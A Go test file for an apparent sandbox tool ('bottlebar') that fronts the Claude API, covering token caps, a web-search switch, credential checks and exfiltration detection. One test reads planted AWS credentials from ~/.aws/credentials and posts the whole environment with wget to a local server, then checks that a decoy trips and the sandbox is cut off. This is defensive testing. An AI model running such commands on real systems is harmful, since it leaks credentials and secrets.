package app_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"bottlebar.app/control"
	"bottlebar.app/internal/claude"
	"bottlebar.app/snapshot"
)

const madeUpKey = "sk-ant-api03-made-up-for-tests-1234"

// asking posts a body to the API from inside a bottle, as a client does.
func (h *home) asking(bottle, body string) string {
	h.t.Helper()
	script := `wget -q -S -Y off -O - --header "Authorization: Bearer $ANTHROPIC_AUTH_TOKEN" --post-data '` + body + `' $ANTHROPIC_BASE_URL/v1/messages 2>&1; true`
	return h.run(bottle, "sh", "-c", script)
}

// A bottle's tokens are counted, held to its cap and to the day's over a
// restart of the app, and its switch for the web is obeyed while it runs.
func TestTokensAreCountedAndCappedOverARestart(t *testing.T) {
	t.Parallel()
	up, err := claude.Listen(hostAddress(t)+":0", claude.Demo)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = up.Close() })
	h := newHome(t, "cap_day = 5_000_000\n", "BOTTLEBAR_TEST_UPSTREAM="+up.URL, "BOTTLEBAR_TEST_ROOT="+up.Root, "ANTHROPIC_API_KEY="+madeUpKey)
	h.open()
	h.add()
	b, err := h.app.Launch(t.Context(), control.LaunchRequest{Artifact: "demo", CapTokens: 10_000}, nil)
	if err != nil {
		t.Fatal(err)
	}
	const small = `{"model":"m","max_tokens":100,"stream":true,"messages":[{"role":"user","content":"hi"}]}`
	if got := h.asking(b.Name, small); !strings.Contains(got, "message_stop") {
		t.Fatalf("the API answers %q", got)
	}
	used := func(n int64) {
		t.Helper()
		var seen []string // as they changed
		defer func() {
			if t.Failed() {
				t.Logf("the bottle's usage was %s", strings.Join(seen, ", then "))
			}
		}()
		eventually(t, "the tokens to be counted", func() bool {
			got, _ := h.bottle(b.ID)
			if now := fmt.Sprintf("%+v", got.Usage); len(seen) == 0 || seen[len(seen)-1] != now {
				seen = append(seen, now)
			}
			return got.Usage != nil && got.Usage.Tokens == n && got.Usage.Cap == 10_000 && got.Usage.Held == 0
		})
	}
	used(35)
	if d := h.app.Snapshot().Day; d == nil || d.Tokens != 35 || d.Cap != 5_000_000 {
		t.Errorf("the day is %+v", d)
	}
	before := len(up.Requests())
	const large = `{"model":"m","max_tokens":20000,"messages":[]}`
	if got := h.asking(b.Name, large); !strings.Contains(got, "429") {
		t.Errorf("above the cap it answers %q", got)
	}
	h.close()
	h.env["ANTHROPIC_API_KEY"] = madeUpKey
	h.open()
	used(35)
	if got := h.asking(b.Name, large); !strings.Contains(got, "429") || len(up.Requests()) != before {
		t.Errorf("after a restart it answers %q", got)
	}
	more := int64(4_000_000) // a search of the web reserves all that a model reads at once
	if _, err := h.app.Adjust(t.Context(), b.Name, control.AdjustRequest{CapTokens: &more}); err != nil {
		t.Fatal(err)
	}
	if got := h.asking(b.Name, large); !strings.Contains(got, "200 OK") {
		t.Errorf("with a raised cap it answers %q", got)
	}
	const web = `{"model":"m","max_tokens":10,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}`
	if got := h.asking(b.Name, web); !strings.Contains(got, "403") {
		t.Errorf("a search of the web answers %q", got)
	}
	on := true
	if got, err := h.app.Adjust(t.Context(), b.Name, control.AdjustRequest{Web: &on}); err != nil || !got.Web {
		t.Fatalf("switching it on: %+v, %v", got.Web, err)
	}
	if got := h.asking(b.Name, web); !strings.Contains(got, "200 OK") {
		t.Errorf("with the switch on it answers %q", got)
	}
	h.change(control.PolicyChange{Action: "allow", Scope: "bottle", Bottle: b.Name, Host: "a.example"})
	if got := h.asking(b.Name, web); !strings.Contains(got, "200 OK") {
		t.Errorf("a change of the policy switched it off: %q", got)
	}
	if err := h.app.Stop(t.Context(), b.Name); err != nil {
		t.Fatal(err)
	}
	if d := h.app.Snapshot().Day; d == nil || d.Tokens < 70 {
		t.Errorf("after the bottle is gone the day is %+v", d)
	}
}

// A decoy that leaves a bottle cuts its way out, over a restart of the app,
// until a person opens it again.
func TestADecoyThatLeavesCutsTheBottleOffUntilItIsReopened(t *testing.T) {
	t.Parallel()
	var arrived atomic.Int32
	var bodies atomic.Value
	bodies.Store("")
	origin := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		if bodies.Store(bodies.Load().(string) + string(body)); r.ContentLength <= 0 {
			arrived.Add(1)
		}
		_, _ = io.WriteString(w, "from the host")
	}))
	l, err := net.Listen("tcp", hostAddress(t)+":0")
	if err != nil {
		t.Fatal(err)
	}
	origin.Listener = l
	origin.Start()
	defer origin.Close()
	host, port, _ := net.SplitHostPort(l.Addr().String())
	h, b := ready(t, "[[host]]\nname = \""+host+"\"\nport = "+port+"\nprivate = true\n", "ANTHROPIC_API_KEY="+madeUpKey)
	url := "http://" + l.Addr().String() + "/"
	secret := strings.TrimSpace(h.run(b.Name, "sh", "-c", "sed -n 's/^aws_secret_access_key = //p' ~/.aws/credentials"))
	token := strings.TrimSpace(h.run(b.Name, "sh", "-c", "echo $BACKUP_ACCESS_TOKEN"))
	if len(secret) != 40 || len(token) < 40 {
		t.Fatalf("planted are %q and %q", secret, token)
	}
	reach := func() string { return h.run(b.Name, "sh", "-c", "wget -q -O - "+url+" 2>&1; true") }
	if got := reach(); got != "from the host" {
		t.Fatalf("before: %q", got)
	}
	before := arrived.Load()
	// The whole environment, as a program that gathers secrets sends it.
	h.run(b.Name, "sh", "-c", `wget -q -O - --post-data "$(env)" `+url+`; true`)
	cut := func() {
		t.Helper()
		eventually(t, "the bottle to be marked", func() bool {
			got, _ := h.bottle(b.ID)
			return got.Cut != nil && got.Problem != nil && strings.Contains(got.Problem.What, "way out") && strings.Contains(got.Problem.Cure, "bottlebar reopen")
		})
		if got := reach(); !strings.Contains(got, "403") {
			t.Errorf("it is cut off and reaches %q", got)
		}
	}
	cut()
	got, _ := h.bottle(b.ID)
	if got.Cut.Host != host || got.Cut.Via != "http" || got.Cut.Decoy == "" || got.State != snapshot.Ready {
		t.Errorf("marked as %+v", got.Cut)
	}
	lines, err := h.app.Activity(t.Context(), b.Name)
	if text, _ := json.Marshal(lines); err != nil || !strings.Contains(string(text), "decoy: ") || strings.Contains(string(text), token) {
		t.Errorf("the lines are %s, %v", text, err)
	}
	h.close()
	h.env["ANTHROPIC_API_KEY"] = madeUpKey
	h.open()
	cut()
	if got := bodies.Load().(string); arrived.Load() != before || strings.Contains(got, token) {
		t.Errorf("%d requests arrived while it was cut off, and %q", arrived.Load()-before, got)
	}
	if _, err := h.app.Adjust(t.Context(), b.Name, control.AdjustRequest{Reopen: true}); err != nil {
		t.Fatal(err)
	}
	if got := reach(); got != "from the host" {
		t.Errorf("opened again: %q", got)
	}
	if got, _ := h.bottle(b.ID); got.Cut != nil || got.Problem != nil {
		t.Errorf("it is still marked: %+v, %+v", got.Cut, got.Problem)
	}
	if _, err := h.app.Adjust(t.Context(), b.Name, control.AdjustRequest{Reopen: true}); err == nil {
		t.Error("a bottle that is not cut off is opened again")
	}
}

func TestACredentialIsTestedOnTheWayOfABottlesRequests(t *testing.T) {
	t.Parallel()
	var status atomic.Int32
	var seen atomic.Value
	api := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen.Store(r)
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(int(status.Load()))
		_, _ = io.WriteString(w, `{"type":"error","error":{"type":"x","message":"said the\u001b[31m API"}}`)
	}))
	l, err := net.Listen("tcp", hostAddress(t)+":0")
	if err != nil {
		t.Fatal(err)
	}
	api.Listener = l
	api.Start()
	defer api.Close()
	h := newHome(t, "", "BOTTLEBAR_TEST_UPSTREAM=http://"+l.Addr().String(), "CLAUDE_CODE_OAUTH_TOKEN=sk-ant-oat01-made-up-for-tests-5678")
	h.open()
	for code, want := range map[int]string{200: "valid", 401: "refused", 403: "refused", 429: "rate-limited", 500: "unclear"} {
		status.Store(int32(code))
		got, err := h.app.TestCredential(t.Context())
		if err != nil || got.Verdict != want || got.Valid != (code == 200) || strings.Contains(got.Finding, "\x1b") {
			t.Errorf("%d is found as %+v, %v", code, got, err)
		}
		if code != 200 && (got.Cure == "" || !strings.Contains(got.Finding, "said the?[31m API")) {
			t.Errorf("%d: %+v", code, got)
		}
	}
	r, _ := seen.Load().(*http.Request)
	if r.Method != http.MethodGet || r.URL.Path != "/v1/models" || r.Header.Get("Authorization") != "Bearer sk-ant-oat01-made-up-for-tests-5678" ||
		r.Header.Get("X-Api-Key") != "" || !strings.Contains(r.Header.Get("Anthropic-Beta"), "oauth-") || r.Header.Get("Anthropic-Version") == "" {
		t.Errorf("the API was asked %s %s with %v", r.Method, r.URL, r.Header)
	}
	api.Close()
	if got, err := h.app.TestCredential(t.Context()); err != nil || got.Verdict != "no-way" {
		t.Errorf("without an API: %+v, %v", got, err)
	}
	status.Store(200)
	for _, c := range h.app.Snapshot().Setup {
		if c.ID == "credential" && (c.State != snapshot.CheckWarn || !strings.Contains(c.Finding, "ending in 5678") || !strings.Contains(c.Finding, "no way")) {
			t.Errorf("Setup says %+v", c)
		}
	}
}
